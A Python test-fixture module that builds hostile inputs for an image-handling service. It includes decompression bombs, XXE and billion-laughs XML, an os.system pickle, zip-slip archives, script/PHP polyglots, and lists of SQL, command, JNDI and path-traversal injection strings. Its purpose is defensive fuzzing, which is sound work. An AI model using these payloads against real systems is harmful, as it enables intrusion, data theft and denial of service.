"""Files, forms and requests that are made to do harm, in families of the same kind."""

import io
import json
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator

import numpy as np
from PIL import Image
from served import make_photo

FORMATS = ("PNG", "JPEG", "WEBP", "TIFF", "BMP", "GIF")
PAYLOAD = b"<script>alert(document.domain)</script><?php system($_GET['x']); ?>"

Files = Iterator[tuple[str, bytes]]


def chunk(kind: bytes, content: bytes) -> bytes:
    """A chunk of a PNG file."""
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", _crc(kind, content))


def _crc(kind: bytes, content: bytes) -> int:
    return zlib.crc32(kind + content)


def png(width: int, height: int, *chunks: bytes, depth: int = 8, color: int = 2) -> bytes:
    """A PNG file with this header, and next to nothing behind it."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, color, 0, 0, 0))
    data = chunk(b"IDAT", zlib.compress(bytes(1000)))
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(chunks) + data + chunk(b"IEND", b"")


def tiff(*entries: tuple[int, int, int, int], following: int = 0, data: bytes = b"") -> bytes:
    """A TIFF file of one directory: tags with kind, count and value; the next one's offset."""
    body = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    head = b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", len(entries))
    return head + body + struct.pack("<I", following) + data


def tiff_of(width: int, height: int, **more: int) -> bytes:
    size = [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, 1)]
    strips = [(262, 3, 1, 1), (273, 4, 1, 200), (277, 3, 1, 1), (278, 4, 1, height), (279, 4, 1, 9)]
    return tiff(*size, *strips, data=bytes(300), **more)


def bombs() -> Files:
    """Little that says it is much."""
    for side in (8193, 20_000, 65_535, 10**6, 2**31 - 1):
        yield f"png of {side}", png(side, side)
    yield "png of 1 bit", png(2**18, 2**18, depth=1, color=0)
    yield "png of a line", png(2**31 - 1, 1)
    gif = bytearray(make_photo(kind="GIF"))
    gif[6:10] = struct.pack("<HH", 65_535, 65_535)
    yield "gif", bytes(gif)
    at = gif.index(b"\x2c")
    gif[at + 5 : at + 9] = struct.pack("<HH", 65_535, 65_535)
    yield "gif with such a frame", bytes(gif)
    bits = 0x2F | (16_383 << 8) | (16_383 << 22)
    lossless = struct.pack("<Q", bits)[:5] + bytes(99)
    yield "webp", _riff(b"VP8L" + struct.pack("<I", len(lossless)) + lossless)
    canvas = bytes([0, 0, 0, 0]) + (2**24 - 1).to_bytes(3, "little") * 2
    yield "webp canvas", _riff(b"VP8X" + struct.pack("<I", 10) + canvas)
    yield "tiff", tiff_of(60_000, 60_000)
    yield "tiff of a line", tiff_of(2**31, 2)
    bmp = bytearray(make_photo(kind="BMP"))
    bmp[18:26] = struct.pack("<ii", 100_000, 100_000)
    yield "bmp", bytes(bmp)
    bmp[18:26] = struct.pack("<ii", 100_000, -100_000)
    yield "bmp upside down", bytes(bmp)
    jpeg = bytearray(make_photo(kind="JPEG"))
    at = jpeg.index(b"\xff\xc0")
    jpeg[at + 5 : at + 9] = struct.pack(">HH", 65_500, 65_500)
    yield "jpeg", bytes(jpeg)


def text_bombs() -> Files:
    """Chunks of a small photo that become 64 MiB."""
    much = zlib.compress(bytes(2**26))
    whole = make_photo()
    head, rest = whole[:33], whole[33:]
    for name, content in (
        ("zTXt", b"k\0\0" + much),
        ("iTXt", b"k\0\1\0\0\0" + much),
        ("iCCP", b"k\0\0" + much),
    ):
        yield f"png {name}", head + chunk(name.encode(), content) + rest
    many = b"".join(chunk(b"zTXt", b"k\0\0" + zlib.compress(bytes(2**20 - 1))) for _ in range(80))
    yield "png of many zTXt", head + many + rest


def _riff(content: bytes) -> bytes:
    return b"RIFF" + struct.pack("<I", len(content) + 4) + b"WEBP" + content


def truncated() -> Files:
    for kind in FORMATS:
        whole = make_photo((64, 48), kind)
        for percent in (1, 5, 10, 25, 40, 50, 60, 75, 90):
            yield f"{kind} {percent} %", whole[: max(1, len(whole) * percent // 100)]


def flipped() -> Files:
    """Photos of which some bits are others."""
    generator = random.Random(0)
    for kind in FORMATS:
        whole = make_photo((64, 48), kind)
        for number in range(9):
            broken = bytearray(whole)
            for _ in range(1 + 4 * number):
                broken[generator.randrange(len(broken))] ^= 1 << generator.randrange(8)
            yield f"{kind} {number}", bytes(broken)


def no_photos() -> Files:
    """What is none of the six formats, whatever it is called."""
    yield "svg with a script", b'<svg xmlns="http://www.w3.org/2000/svg">' + PAYLOAD + b"</svg>"
    entity = b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'
    yield "svg with an entity", b'<?xml version="1.0"?>' + entity
    laughs = b"".join(b'<!ENTITY a%d "&a%d;&a%d;">' % (n + 1, n, n) for n in range(30))
    yield "xml that grows", b"<!DOCTYPE x [" + laughs + b"]><x>&a30;</x>"
    yield "html", b"<!doctype html>" + PAYLOAD
    yield "pdf", b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj"
    yield "postscript", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) (r) file\n"
    yield "program", b"\x7fELF\x02\x01\x01" + bytes(99)
    yield "script", b"#!/bin/sh\ntouch /tmp/hostile\n"
    yield "zip", _zipped()
    yield "gzip", b"\x1f\x8b\x08" + zlib.compress(bytes(2**20))
    yield "pickle", b"\x80\x04cos\nsystem\n(S'touch /tmp/hostile'\ntR."
    yield "pnm", b"P6 99999 99999 255\n" + bytes(99)
    yield "xpm", b"/* XPM */\nstatic char *x[] = {};"
    yield "magick", b"push graphic-context\nimage over 0,0 0,0 'https://example.org/x'\n"
    yield "psd", b"8BPS\0\1" + bytes(99)
    yield "text", b"GIF89" + PAYLOAD
    yield "zeros", bytes(2**20)
    yield "noise", random.Random(1).randbytes(2**16)
    for kind in ("ICO", "PPM", "TGA", "PCX", "SGI", "ICNS", "PDF", "EPS", "JPEG2000"):
        made = io.BytesIO()
        Image.new("RGB", (32, 32)).save(made, kind)
        yield kind, made.getvalue()


def _zipped() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("../../x", PAYLOAD)
    return made.getvalue()


def broken_directories() -> Files:
    """Directories of TIFF and EXIF that lead nowhere, in a circle, or to too much."""
    yield "tiff in a circle", tiff_of(9, 9, following=8)
    yield "tiff far away", tiff_of(9, 9, following=2**32 - 1)
    yield "tiff of no tags", tiff()
    yield "tiff without a directory", b"II*\0" + struct.pack("<I", 2**31)
    yield "tiff of many tags", b"II*\0" + struct.pack("<IH", 8, 65_535) + bytes(99)
    yield "tiff of many values", tiff((256, 4, 2**32 - 1, 0), (257, 4, 2**32 - 1, 0))
    yield "tiff of no size", tiff_of(0, 0)
    yield "tiff of rationals", tiff((256, 5, 1, 4), (257, 5, 1, 4))
    yield "big tiff", b"II+\0\x08\0\0\0" + struct.pack("<Q", 2**63 - 1)
    yield "tiff with strips elsewhere", tiff_of(2000, 2000)


def odd_photos() -> Files:
    """Photos of kinds that are seldom, which are taken."""
    gray = np.linspace(0, 65_535, 40 * 30).reshape(30, 40)
    modes = {
        "16 bits": (Image.fromarray(gray.astype(np.uint16)), "PNG"),
        "16 bits in TIFF": (Image.fromarray(gray.astype(np.uint16)), "TIFF"),
        "floats": (Image.fromarray((gray / 65_535).astype(np.float32)), "TIFF"),
    }
    colors = Image.open(io.BytesIO(make_photo()))
    for mode, kind in (
        ("CMYK", "JPEG"),
        ("CMYK", "TIFF"),
        ("P", "PNG"),
        ("1", "PNG"),
        ("1", "BMP"),
    ):
        modes[f"{mode} in {kind}"] = colors.convert(mode), kind
    modes["LA"] = colors.convert("LA"), "PNG"
    modes["LAB"] = Image.merge("LAB", colors.split()), "TIFF"
    for name, (image, kind) in modes.items():
        made = io.BytesIO()
        image.save(made, kind)
        yield name, made.getvalue()
    frames = [Image.new("RGB", (32, 24), (number, 0, 0)) for number in range(250)]
    for kind in ("GIF", "WEBP", "PNG", "TIFF"):
        made = io.BytesIO()
        frames[0].save(made, kind, save_all=True, append_images=frames[1:])
        yield f"{kind} of 250 frames", made.getvalue()
    for name, exif in _exifs():
        made = io.BytesIO()
        colors.save(made, "JPEG", exif=b"Exif\0\0" + exif)
        yield f"EXIF {name}", made.getvalue()


def _exifs() -> Files:
    yield "in a circle", tiff((0x8769, 4, 1, 8), following=8)
    yield "far away", tiff((0x8769, 4, 1, 2**32 - 1), (0x8825, 4, 1, 2**31))
    yield "of many values", tiff((0x010E, 2, 2**32 - 1, 8), (0x0112, 3, 2**31, 0))
    yield "of many tags", b"II*\0" + struct.pack("<IH", 8, 5000) + bytes(12 * 5000)
    yield "of no sense", b"MM" + random.Random(2).randbytes(5000)
    yield "of a wrong orientation", tiff((0x0112, 3, 1, 99))


def polyglots() -> Files:
    """Photos that are something else as well."""
    for kind in FORMATS:
        yield f"{kind} and HTML", make_photo(kind=kind) + b"<html>" + PAYLOAD
        yield f"{kind} and ZIP", make_photo(kind=kind) + _zipped() + PAYLOAD
    yield "GIF comment", make_photo(kind="GIF", comment=PAYLOAD)
    yield "JPEG comment", make_photo(kind="JPEG", comment=PAYLOAD)
    exif = Image.Exif()
    exif[0x010E] = exif[0x013B] = PAYLOAD.decode()
    for kind in ("JPEG", "WEBP", "PNG", "TIFF"):
        yield f"EXIF in {kind}", make_photo(kind=kind, exif=exif)
    whole = make_photo()
    for name in ("tEXt", "iTXt", "eXIf", "prIv"):
        filled = b"XML:com.adobe.xmp\0\0\0\0\0" + PAYLOAD
        yield f"PNG {name}", whole[:33] + chunk(name.encode(), filled) + whole[33:]
    jpeg = make_photo(kind="JPEG")
    for marker in (0xE1, 0xED, 0xEF):
        segment = struct.pack(">BBH", 0xFF, marker, len(PAYLOAD) + 2) + PAYLOAD
        yield f"JPEG segment {marker:x}", jpeg[:2] + segment + jpeg[2:]


NAMES = (
    "../../../../etc/cron.d/x.png",
    "..\\..\\windows\\x.png",
    "/etc/passwd",
    "C:\\x.png",
    "\\\\host\\share\\x.png",
    ".",
    "..",
    "...",
    ".htaccess",
    "con.png",
    "a" * 5000 + ".png",
    "x\u202egnp.exe",
    "\u200b\ufeff.png",
    "\U0001f4f7" * 300,
    "x.png\0.php",
    "x\r\nSet-Cookie: a=b.png",
    "<img src=x onerror=alert(1)>.png",
    "'; DROP TABLE photos; --.png",
    '"x" & `touch /tmp/hostile`.png',
    "${jndi:ldap://example.org/x}.png",
    "%2e%2e%2f%2e%2e%2fx.png",
    "{{7*7}}.png",
    "~root/x.png",
    "x.png/",
    " ",
)

IDS = (
    "x",
    "0" * 32,
    "0" * 5000,
    "' OR '1'='1",
    "1; DROP TABLE photos",
    '" UNION SELECT password FROM accounts --',
    "%00",
    "%2e%2e",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%ff%fe",
    "*",
    "\u0660" * 32,
    "-1",
    "null",
)

_DEEP = '{"a": ' * 5000 + "1" + "}" * 5000
#: Bodies of a job that cannot be carried out.
JOBS = (
    "",
    "null",
    "[]",
    "1",
    '"x"',
    "{",
    "\0",
    "\ud800".encode("utf-8", "surrogatepass").decode("latin-1"),
    "[" * 100_000,
    _DEEP,
    '{"hints": ' + _DEEP + "}",
    '{"model": null, "model": "nobody"}',
    '{"model": ' + json.dumps("x" * 100_000) + "}",
    '{"model": {"$ne": null}}',
    '{"model": "../../etc/passwd"}',
    '{"model": "gray\\u0000"}',
    '{"side": 1e400}',
    '{"side": -1}',
    '{"side": 16.5}',
    '{"side": ' + "9" * 5000 + "}",
    '{"side": NaN}',
    '{"side": true}',
    '{"side": "64; DROP TABLE jobs"}',
    '{"options": {"render_factor": NaN}}',
    '{"options": {"render_factor": Infinity}}',
    '{"options": {"render_factor": 1e308}}',
    '{"options": {"render_factor": ' + "9" * 4000 + "}}",
    '{"options": {"render_factor": -0.5}}',
    '{"options": {"render_factor": {"a": 1}}}',
    '{"options": {"render_factor": "eight"}}',
    '{"options": {"__class__": 1}}',
    '{"options": [["render_factor", 8]]}',
    '{"options": ' + json.dumps({f"option{n}": n for n in range(5000)}) + "}",
    '{"hints": {"version": 1e999}}',
    '{"hints": {"version": 1, "points": [{"x": NaN, "y": 1, "color": "gray"}]}}',
    '{"hints": {"version": 1, "points": [{"x": 1e999, "y": 1, "color": "gray"}]}}',
    '{"hints": {"version": 1, "points": [{"x": 1, "y": 1, "color": [1e999, 0]}]}}',
    '{"hints": {"version": 1, "points": [{"x": 1, "y": 1, "color": "#gggggg"}]}}',
    '{"hints": {"version": 1, "points": [{"x": 1, "y": 1, "color": "gray", "radius": -1}]}}',
    '{"hints": {"version": 1, "points": [{"x": 1, "y": 1, "color": "gray", "radius": 1e99}]}}',
    '{"hints": {"version": 1, "points": {"length": 1e9}}}',
    '{"hints": {"version": 1, "strokes": [{"vertices": [[1, 1]], "color": "gray", "width": 1e9}]}}',
    '{"hints": {"version": 1, "saturation": 1e999}}',
    '{"hints": {"version": 1, "saturation": %s}}' % ("9" * 4000),
    '{"hints": {"version": 1, "points": [{"x": %s, "y": 1, "color": "gray"}]}}' % ("9" * 400),
    '{"hints": {"version": 1, "size": [%s, 1]}}' % ("9" * 400),
    '{"hints": {"version": 1, "mean_color": [%s, 1]}}' % ("9" * 400),
    '{"hints": {"version": 1, "__proto__": {}}}',
    '{"reference": "../../etc/passwd"}',
    '{"reference": "' + "x" * 100_000 + '"}',
    '{"reference": ["a"]}',
    '{"transfer": "style"}',
    '{"transfer": "__import__"}',
    '{"film": {"codec": "../x"}}',
)
